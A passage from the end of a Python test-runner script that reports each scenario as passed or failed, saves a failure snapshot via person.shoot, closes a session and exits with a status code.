                except Exception as error:  # pylint: disable=broad-except
                    word, failed = "FAIL", failed + 1
                    where = [one.lineno for one in traceback.extract_tb(error.__traceback__)
                             if one.filename == __file__]
                    print(f"  line {where}: {type(error).__name__}: {str(error)[:500]}")
                    person.shoot(f"failed-{ran}")
                print(f"{word} {name[5:].replace('_', ' ')}", flush=True)
    finally:
        house.close()
    print(f"{ran - failed} of {ran} scenarios passed")
    return 1 if failed or not ran else 0


if __name__ == "__main__":
    sys.exit(main())
